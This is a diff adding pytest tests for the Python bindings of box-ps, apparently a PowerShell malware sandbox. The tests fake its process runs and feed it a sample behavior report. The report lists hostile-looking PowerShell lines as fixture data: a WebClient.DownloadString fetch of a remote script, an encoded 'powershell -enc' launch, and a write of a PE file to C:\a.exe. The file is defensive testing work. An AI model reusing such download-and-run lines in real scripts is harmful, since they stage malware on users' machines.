@@ -0,0 +1,125 @@
+# tests of the python bindings, run without pwsh. From pyboxps-3.11:
+#   python -m pytest tests
+
+import os
+import json
+import shutil
+import subprocess
+
+import pytest
+
+import pyboxps.boxps as boxps
+
+# config.json of the box-ps installation these bindings ship with
+CONFIG_PATH = os.path.join(os.path.dirname(__file__), "..", "..", "config.json")
+
+SAMPLE_REPORT = {
+    "Actions": [
+        {
+            "Behaviors": ["network"],
+            "SubBehaviors": ["upload"],
+            "Actor": "System.Net.WebClient.DownloadString",
+            "Line": "(New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')",
+            "BehaviorProps": {"uri": "http://example.com/a.ps1"},
+            "Parameters": {"address": "http://example.com/a.ps1"},
+            "ExtraInfo": "",
+            "Id": 2,
+            "BehaviorId": "B2"
+        },
+        {
+            "Behaviors": ["script_exec"],
+            "SubBehaviors": ["start_process"],
+            "Actor": "powershell.exe",
+            "Line": "powershell -enc ...",
+            "BehaviorProps": {"script": "Write-Host hi"},
+            "Parameters": {"EncodedCommand": "..."},
+            "ExtraInfo": "",
+            "Id": 1,
+            "BehaviorId": "B1"
+        },
+        {
+            "Behaviors": ["file_system"],
+            "SubBehaviors": ["file_write"],
+            "Actor": "Microsoft.PowerShell.Management\\Set-Content",
+            "Line": "Set-Content C:\\a.exe $bytes",
+            "BehaviorProps": {"paths": ["C:\\a.exe"], "content": "MZ"},
+            "Parameters": {"Path": "C:\\a.exe"},
+            "ExtraInfo": "",
+            "Id": 3,
+            "BehaviorId": "B3"
+        }
+    ],
+    "PotentialIndicators": {"network": ["http://example.com/b"], "file_system": ["C:\\b.txt"]},
+    "EnvironmentProbes": {},
+    "Artifacts": {"3": [{"sha256": "ABCD", "fileType": "PE"}]},
+    "PotentialArtifacts": ["EF01"],
+    "WorkingDir": "./working_1"
+}
+
+####################################################################################################
+@pytest.fixture
+def boxps_config():
+
+    with open(CONFIG_PATH, "r") as f:
+        return json.loads(f.read())
+
+####################################################################################################
+@pytest.fixture
+def report_path(tmp_path):
+
+    path = str(tmp_path / "report.json")
+    with open(path, "w") as f:
+        f.write(json.dumps(SAMPLE_REPORT))
+
+    return path
+
+####################################################################################################
+class FakeBoxPSProcess:
+    """
+    Stands in for a pwsh process running box-ps.ps1, writing SAMPLE_REPORT wherever it was told to
+    """
+
+    runs = []
+
+    def __init__(self, cmd, **kwargs):
+
+        self.cmd = cmd
+        self.pid = os.getpid()
+        self.returncode = 0
+        FakeBoxPSProcess.runs.append(cmd)
+
+    def communicate(self, input=None):
+
+        if "-OutFile" in self.cmd:
+            report_path = self.cmd[self.cmd.index("-OutFile") + 1]
+        else:
+            out_dir = self.cmd[self.cmd.index("-OutDir") + 1]
+            report_path = out_dir + os.sep + "report.json"
+            with open(out_dir + os.sep + "stdout.txt", "w") as f:
+                f.write("hi\n")
+
+        with open(report_path, "w") as f:
+            f.write(json.dumps(SAMPLE_REPORT))
+
+        return b"", b""
+
+####################################################################################################
+@pytest.fixture
+def fake_boxps(tmp_path, monkeypatch):
+    """
+    A box-ps installation whose sandboxing runs are faked, so BoxPS can be used without pwsh.
+    FakeBoxPSProcess.runs holds the command line of every run.
+    """
+
+    install_dir = tmp_path / "box-ps"
+    install_dir.mkdir()
+    shutil.copyfile(CONFIG_PATH, str(install_dir / "config.json"))
+    (install_dir / "box-ps.ps1").write_text("# box-ps")
+
+    monkeypatch.setenv("BOXPS", str(install_dir))
+    monkeypatch.setattr(subprocess, "check_call", lambda *args, **kwargs: 0)
+    monkeypatch.setattr(subprocess, "Popen", FakeBoxPSProcess)
+    monkeypatch.setattr(os, "sysconf", lambda name: 4 * 1024 ** 3 if name == "SC_PHYS_PAGES" else 1)
+    FakeBoxPSProcess.runs = []
+
+    return str(install_dir)